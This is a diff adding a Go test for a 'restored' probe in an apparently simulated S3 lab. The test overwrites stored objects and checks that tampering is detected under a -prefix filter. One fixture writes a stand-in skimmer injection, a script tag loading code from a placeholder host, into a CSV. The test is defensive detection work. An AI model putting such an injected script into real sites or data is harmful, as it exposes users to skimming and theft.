@@ -266,3 +266,27 @@ func TestProbeWithCredentialsFromAFile(t *testing.T) {
 		}
 	}
 }
+
+// An overwrite is harm too (a skimmer put into a site's script), and
+// -prefix narrows the objects that must be as they began.
+func TestRestoredAfterAnOverwrite(t *testing.T) {
+	in, probe, _ := cloudLab(t)
+	if code := probe("restored", "-prefix", "invoices", "records"); code != 1 {
+		t.Fatal("restored passed before any harm")
+	}
+	mustDo(t)(in.S3("PUT", "/records/customers.csv", []byte("id,name\n1,Mallory\n")))
+	if code := probe("restored", "-prefix", "invoices", "records"); code != 1 {
+		t.Fatal("an overwrite outside the prefix counted as harm under it")
+	}
+	mustDo(t)(in.S3("PUT", "/records/invoices.csv", []byte("n,total\n1,100\n<script src=//x.example/s.js>\n")))
+	if code := probe("restored", "-prefix", "invoices", "records"); code != 1 {
+		t.Fatal("an overwritten object passed as restored")
+	}
+	mustDo(t)(in.S3("PUT", "/records/invoices.csv", []byte("n,total\n1,100\n")))
+	if code := probe("restored", "-prefix", "invoices", "records"); code != 0 {
+		t.Fatal("the original content put back did not pass")
+	}
+	if code := probe("restored", "records"); code != 1 {
+		t.Fatal("without -prefix, the overwritten customers.csv passed")
+	}
+}
